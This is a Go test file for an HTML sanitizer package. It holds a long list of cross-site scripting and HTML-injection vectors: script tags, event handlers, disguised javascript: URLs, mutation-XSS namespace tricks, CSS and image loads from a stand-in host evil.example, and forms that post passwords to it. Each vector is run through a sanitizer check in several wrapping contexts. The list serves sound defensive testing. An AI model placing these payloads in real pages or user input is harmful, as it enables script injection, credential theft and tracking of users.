package safehtml

import "testing"

// vectors are the well-known ways of getting something run, fetched, sent or
// covered, in wordings of our own.
var vectors = []string{
	// Scripts and what is read as one.
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>alert(1)</script>`, "<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<<script>script>alert(1)<</script>/script>`, `<script>alert(1)`, `<script><!--<script></script><img src=x onerror=alert(1)>`,
	`<scrİpt>alert(1)</scrİpt>`, `<ſcript>alert(1)</ſcript>`, `<svg/><script>alert(1)</script>`, `<script xlink:href="data:,alert(1)">`,
	// Event handlers.
	`<img src=x onerror=alert(1)>`, `<img src="x"onerror="alert(1)">`, `<p onclick=alert(1) onmouseover='alert(2)'>x</p>`,
	`<body onload=alert(1)>`, `<body/onpageshow="alert(1)">`, `<details open ontoggle=alert(1)>x`, `<div onwheel	=	alert(1)>x`,
	`<a/onclick=alert(1)/href=#>x</a>`, `<b on"click=alert(1)>x`, `<b style="color:red"onclick=alert(1)>x`, "<img src=\"a\" alt=\"`onerror=alert(1)//\">",
	`<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`, `<p title="&quot;onclick=alert(1) x=&quot;">x`, `<font color='red"onclick="alert(1)'>x`,
	`<td background="x" onclick=alert(1)>`, `<a href="https://a.example/&quot;onclick=alert(1)">x</a>`, `<p class='"><img src=x onerror=alert(1)>'>x`,
	// javascript: and its disguises.
	`<a href=javascript:alert(1)>x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>", `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href="&#106;avascript&colon;alert(1)">x</a>`,
	`<a href="jav&#97;script&#0058alert(1)">x</a>`, `<a href="javascript&NewLine;:alert(1)">x</a>`, `<a href="https:javascript:alert(1)">x</a>`,
	`<a href="//evil.example/">x</a>`, `<a href="\\evil.example">x</a>`, `<a href="/logout">x</a>`, `<a href="?x">x</a>`, `<a href="#x">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="blob:https://x/1">x</a>`,
	`<a href="file:///etc/passwd">x</a>`, `<a href="view-source:https://x">x</a>`, `<a href="ｊavascript:alert(1)">x</a>`, `<a href="http:">x</a>`,
	`<a href="java&#8203;script:alert(1)">x</a>`, `<a href="https://a.example/%0d%0aX: y">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`,
	`<a href="mailto:a@b.example?subject=<script>">x</a>`, `<a href="https://a.example" target=_top rel=opener>x</a>`, `<a href="https://">x</a>`,
	`<a href="https://a.example/" href="javascript:alert(1)">x</a>`, `<a href="javascript:alert(1)" href="https://a.example/">x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`, `<a ping="https://evil.example" href="https://a.example">x</a>`, `<img src="javascript:alert(1)">`,
	`<a href="https://[::1">x</a>`, `<a href="https://a.example\@evil.example">x</a>`, `<area href=javascript:alert(1)>`, `<img dynsrc=javascript:alert(1)>`,
	// Other namespaces and what one parser reads unlike another (mXSS).
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate attributeName=href values=javascript:alert(1)></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>">`, `<iframe><img title="</iframe><img src=x onerror=alert(1)>">`,
	`<noframes><style></noframes><img src=x onerror=alert(1)></style>`, `<plaintext><script>alert(1)</script>`, `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`,
	`<select><template><script>alert(1)</script></select>`, `<table><select><img src=x onerror=alert(1)>`, `<svg><title><style><img src=x onerror=alert(1)>`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`, `<?xml version="1.0"?><script>alert(1)</script>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!-- --!><img src=x onerror=alert(1)>-->`,
	`<!doctype html [<!entity x "<script>">]><p>&x;`, `<p>&lt;script&gt;alert(1)&lt;/script&gt;`, `<p>&amp;lt;script&amp;gt;`, `</p/><script>alert(1)</script>`,
	// Frames, objects, and pages that are not this one.
	`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<frameset><frame src=javascript:alert(1)></frameset>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src=//evil.example/x.swf>`, `<applet code=x></applet>`,
	`<portal src=https://evil.example>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`,
	`<link rel=prefetch href=//evil.example>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=set-cookie content=a=b>`,
	`<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<base href=//evil.example/><a href=x>x</a>`, `<base target=_self>`,
	`<html manifest=//evil.example/x><head></head><body>x</body></html>`, `</body></html><script>alert(1)</script>`, `<dialog open>x</dialog>`,
	// Forms.
	`<form action=//evil.example><input name=p type=password><button>ok</button></form>`, `<button formaction=javascript:alert(1)>x</button>`,
	`<input type=image src=//evil.example/x.png formaction=//evil.example>`, `<isindex action=javascript:alert(1)>`, `<textarea name=x autofocus>y</textarea>`,
	`<form id=a></form><button form=a formaction=//evil.example>x</button>`, `<select onchange=alert(1)><option>x</select>`, `<label for=x onclick=alert(1)>x</label>`,
	// Style.
	`<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example)}</style>`, `<style></style><img src=x onerror=alert(1)></style>`,
	`<p style="background:url(javascript:alert(1))">x`, `<p style="width:expression(alert(1))">x`, `<p style="width:exp/**/ression(alert(1))">x`,
	`<p style="-moz-binding:url(//evil.example/x.xml#x)">x`, `<p style="behavior:url(x.htc)">x`, `<p style="background-image:u\72l(//evil.example)">x`,
	`<p style="background-image:\75 rl('//evil.example')">x`, `<p style="color:red;}*{background:url(//evil.example)">x`, `<p style="&#x62;ackground:url(//evil.example)">x`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x`, `<p style="background:URL( '//evil.example/a' ), url(//evil.example/b)">x`,
	`<p style='font-family:"x;background:url(//evil.example)'>x`, `<p style="list-style:url(//evil.example)">x`, `<p style="content:url(//evil.example)">x`,
	`<p style="cursor:url(//evil.example),auto">x`, `<p style="--x:url(//evil.example);background:var(--x)">x`, `<p style="color:red" style="position:fixed">x`,
	`<p style="background:image-set('//evil.example/a' 1x)">x`, `<p style="background:-webkit-cross-fade(url(//evil.example),red)">x`,
	`<p style="filter:url(//evil.example#f)">x`, `<p style="/*;*/position:absolute/*">x`, `<p style="color:red !ie;behavior:url(x)">x`, `<p style="margin:-9999px">x`,
	`<p style="text-indent:-9999px;display:none;opacity:0;visibility:hidden;font-size:99999px">x`, `<p style="background:url(data:image/svg+xml;base64,PHN2Zz4=)">x`,
	`<p style="background:url('https://a.example/&quot;);position:fixed')">x`, `<p style="background:url(https://a.example/x);position:fixed;color:red">x`,
	`<p style="background:url(https://a.example/a'b(c;d).png)">x`, `<p style="color:rgb(1,2,3);background:hsl(1deg,2%,3%)">x`, `<p style="background:url(https://a.example/&#10;)">x`,
	`<p style="font-family:'a&quot;b';color:&quot;">x`, `<p style="background:url(url(//evil.example))">x`, `<p style="background:url(cid:bad/x);position:fixed)">x`,
	// Pictures.
	`<img src=http://evil.example/x.gif>`, `<img src=//evil.example/x.gif>`, `<img src="ht&#10;tps://evil.example/x">`, `<img src="\\evil.example\x">`,
	`<img srcset="//evil.example/x 1x, //evil.example/y 2x">`, `<img src=x srcset="https://evil.example/x">`, `<img lowsrc=//evil.example/x>`,
	`<picture><source srcset=//evil.example/x><img src=//evil.example/y></picture>`, `<image src=//evil.example/x onerror=alert(1)>`,
	`<img src="data:image/svg+xml;base64,PHN2Zy8+">`, `<img src="data:text/html;base64,PHNjcmlwdD4=">`, `<img src="data:image/png,<svg onload=alert(1)>">`,
	`<img src="data:image/png;base64,iVBOR&quot;onerror=alert(1)">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="DATA:image/JPG;name=&quot;x.jpg&quot;;base64,/9j/ 4AA%3D">`,
	`<img src="cid:a@b">`, `<img src="CID:%3Ca%3E">`, `<img src="cid:">`, `<img src="cid:badjavascript:alert(1)">`, `<img src="cid:bad//evil.example/x">`,
	`<img src="cid:bad/\evil.example">`, `<img src="cid:baddata:image/svg+xml;base64,AAAA">`, `<img src="cid:data">`, `<img src="cid:bad">`, `<img src="cid:bad/">`,
	`<img src="https://a.example:8443/x"><img src="http://a.example:8080/x"><img src="http://a.example:80/x">`, `<img src="https://a.example/100%.png?a=1&b=2">`,
	`<img src="https://a.example/'x(y);z">`, `<table background=//evil.example/x><tr><td background="https://a.example/(x)">y`, `<body background="cid:a">x`,
	`<video poster=//evil.example/x src=//evil.example/y>x</video>`, `<img src="filesystem:https://x/y">`, `<img usemap=#x ismap src=cid:a><map name=x><area href=//evil.example></map>`,
	// Characters.
	"<p>\x00\x01\x1b[2J\x7f\u0085x", "\xff\xfe<p>x", "<p title='\xc3'>\xe2\x82", "<a href='https://a.example/\u202e\u2066x'>\u202egro.elpmaxe</a>", "<p\u00a0onclick=alert(1)>x",
	"<p\fonclick=alert(1)>x", "<p/\v/onclick=alert(1)>x", "<img\u2028src=x\u2029onerror=alert(1)>", "<pre>\n\n\nx</pre><pre>\n<b>\n</b></pre>", "<pre>\r\n\rx&#13;y</pre>",
}

func TestVectors(t *testing.T) {
	for _, v := range vectors {
		check(t, v)
		// Where a tag ends is decided by what came before it.
		for _, around := range [][2]string{
			{`<table><tr><td>`, `</td></tr></table>`},
			{`<table>`, ``},
			{`<p title="`, `">`},
			{`<!--`, `-->`},
			{`<a href='`, `'>`},
			{`<svg>`, `</svg>`},
			{`<math><mi>`, ``},
			{`<b><p>`, `</b>`},
			{`<style>`, `</style>`},
			{`<noscript>`, `</noscript>`},
			{`<p style="`, `">`},
		} {
			check(t, around[0]+v+around[1])
		}
	}
}
